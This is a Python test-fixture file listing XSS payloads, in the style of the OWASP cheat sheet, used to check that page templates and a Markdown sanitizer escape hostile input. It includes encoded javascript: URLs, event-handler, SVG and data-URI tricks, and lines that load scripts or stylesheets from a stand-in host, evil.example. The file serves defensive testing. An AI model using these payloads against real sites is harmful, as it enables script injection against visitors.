"""Hostile text for the injection tests: every payload, if it ever ran, would set
``window.__pwned`` or put PWNED in the page title, which the browser tests look for.

In the style of the OWASP XSS filter evasion cheat sheet: case and encoding tricks,
broken and nested tags, event handlers, script-capable URLs, SVG and MathML, plus
Markdown's own ways to make links and images, and Unicode look-alikes.
"""

from __future__ import annotations

RUN = "__pwned=1"

# Text for fields shown as plain text (titles, names, summaries, keywords, contacts):
# the templates must escape all of it.
TEXT_PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"javascript:{RUN}",
    "{{ 7*7 }} {% raw %}",  # template syntax must stay text
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"＜script＞{RUN}＜/script＞",  # full-width angle brackets
    f"zero\u200bwidth<scr\u200bipt>{RUN}</script>",
    f'<a href="java\u200bscript:{RUN}">x</a>',
]

# Markdown for descriptions and news bodies: the sanitizer must leave nothing that runs.
MARKDOWN_PAYLOADS = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN};//<</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<IMG SRC=JaVaScRiPt:{RUN}>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned=1>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__pwned=1>",
    f'<IMG SRC="jav\tascript:{RUN}">',
    f'<IMG SRC=" &#14;  javascript:{RUN}">',
    f'<a href="&#106;avascript:{RUN}">entity link</a>',
    f'<a href="  JaVaScRiPt:{RUN}">spaced link</a>',
    f'<a href="vbscript:{RUN}">vbscript</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=">data link</a>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">svg link</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    f'<div style="background:url(javascript:{RUN})">styled</div>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<base href="https://evil.example/">',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f"<template><script>{RUN}</script></template>",
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    '<span id="__config">{"base": "https://evil.example/"}</span>',
    '<p id="__search">clobbering Material</p>',
    # Markdown's own link and image syntax
    f"[inline link](javascript:{RUN})",
    f"[spaced link]( javascript:{RUN} )",
    f"[encoded link](javascript&#58;{RUN})",
    f"[entity link](&#106;avascript:{RUN})",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZD0xPg==)",
    f'![image with title](javascript:{RUN} "title")',
    f"[reference link][evil]\n\n[evil]: javascript:{RUN}",
    f'[reference with title][evil2]\n\n[evil2]: javascript:{RUN} "t"',
    f"<javascript:{RUN}>",
    "<https://outside.example/autolink>",
    f'[attr_list link](https://outside.example/){{: onclick="{RUN}" }}',
    f'attr list paragraph\n{{: onmouseover="{RUN}" style="color:red" }}',
    f'[attr_list href](#){{: href="javascript:{RUN}" }}',
    f"`<script>{RUN}</script>` in code",
    f"```html\n<script>{RUN}</script>\n```",
    f"<a href='https://outside.example/' target=_blank onclick={RUN}>outside</a>",
]

# Marks that the tests find in the built pages, to know the payload arrived as text.
MARK = "xsscanary"
